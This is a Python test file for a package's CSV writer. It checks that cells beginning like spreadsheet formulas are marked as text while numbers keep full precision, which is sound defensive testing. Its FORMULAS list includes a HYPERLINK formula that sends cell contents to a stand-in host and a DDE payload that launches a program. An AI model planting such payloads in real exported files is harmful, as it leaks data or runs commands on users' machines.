"""CSV files that a spreadsheet shows and does not run, whatever backbones and domains are called."""

import csv
import re
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from fake_study import SELF_SUPERVISED, SUPERVISED, Setting, write_study
from hypothesis import given, settings
from hypothesis import strategies as st

import hf_sslgen
from hf_sslgen.command_line import run_command
from hf_sslgen.reporting.csv_files import read_csv, write_csv

FORMULAS = ("=1+1", '=HYPERLINK("http://x.y/?"&A1,"a")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
HARMLESS = ("resnet50", "", "'quoted'", "a=b", "left -0.1", "Größe", "x\ny", "two, of them", "\N{MINUS SIGN}3")
NUMBERS = ("+20", "-0.1", "+1e-3", "-5.")
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def fields(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def is_formula(text: str) -> bool:
    return text.lstrip(" ").startswith(STARTS) and not re.fullmatch(r"[+-]?\d*\.?\d*(e[+-]?\d+)?", text)


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_is_marked_as_text(text: str, tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"name": [text]}), tmp_path / "table.csv")
    assert fields(tmp_path / "table.csv") == [["name"], [f"'{text}"]]
    assert list(read_csv(tmp_path / "table.csv")["name"]) == [text]


@pytest.mark.parametrize("text", (*HARMLESS, *NUMBERS))
def test_other_text_is_left_as_it_is(text: str, tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"name": [text, "other"]}), tmp_path / "table.csv")
    assert fields(tmp_path / "table.csv") == [["name"], [text], ["other"]]


def test_numbers_stay_numbers_at_full_precision(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "value": [-0.1234567890123456, float("nan"), -1e-300],
            "n": pd.array([-3, None, 7], dtype="Int64"),
            "severity": ["+20", None, "-0.1"],
        }
    )
    write_csv(table, tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_text().splitlines()[1] == '-0.1234567890123456,-3,"+20"'
    again = read_csv(tmp_path / "table.csv")
    assert list(again["value"].dropna()) == [-0.1234567890123456, -1e-300]
    assert list(again["n"].dropna()) == [-3, 7]


texts = st.text(st.sampled_from("=+-@'\t\r\n \"a1.,＝") | st.characters(exclude_categories=["Cs"]), min_size=1)


@settings(max_examples=300, deadline=None)
@given(st.lists(texts, min_size=1, max_size=4))
def test_any_text_comes_back_and_none_is_a_formula(tmp_path_factory: pytest.TempPathFactory, found: list[str]) -> None:
    path = tmp_path_factory.mktemp("texts") / "table.csv"
    table = pd.DataFrame({"name": [f"{text} x" for text in found]}, dtype=object)
    write_csv(table, path)
    written = [row[0] for row in fields(path)[1:]]
    assert not any(is_formula(text) for text in written)
    assert list(read_csv(path)["name"]) == list(table["name"])


def test_names_in_the_files_of_a_study_are_disarmed(tmp_path: Path) -> None:
    backbones = [
        replace(backbone, name=name, source="=source")
        for backbone, name in zip((SUPERVISED, SELF_SUPERVISED), FORMULAS, strict=False)
    ]
    domains = [("@domain", "similar"), ("-domain", "different")]
    write_study(tmp_path / "cells", backbones, domains, settings=(Setting("linear"),))
    run_command("hf_sslgen.commands.report", [str(tmp_path)])
    for name in ("results.csv", "comparisons.csv", "groups.csv"):
        rows = fields(tmp_path / name)
        assert not [text for row in rows for text in row if is_formula(text)]
        assert {"'" + FORMULAS[0], "'" + FORMULAS[1]} <= {text for row in rows for text in row}
    results = read_csv(tmp_path / "results.csv")
    assert {*FORMULAS[:2]} == set(results["backbone"].dropna())
    assert set(results["domain"].dropna()) == {"@domain", "-domain"}
    assert pd.api.types.is_numeric_dtype(results["value"])


def test_no_other_module_writes_csv() -> None:
    """`compare`, `study`, `report` and `push-study` write tables by this module alone."""
    package = Path(hf_sslgen.__file__).parent
    folders = [package, *(package.parent / name for name in ("recipes", "scripts", "benchmarks"))]
    writers = [
        path
        for folder in folders
        for path in folder.rglob("*.py")
        if re.search(r"\bto_csv\(|csv\.(Dict)?[wW]riter\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == [package / "reporting" / "csv_files.py"]
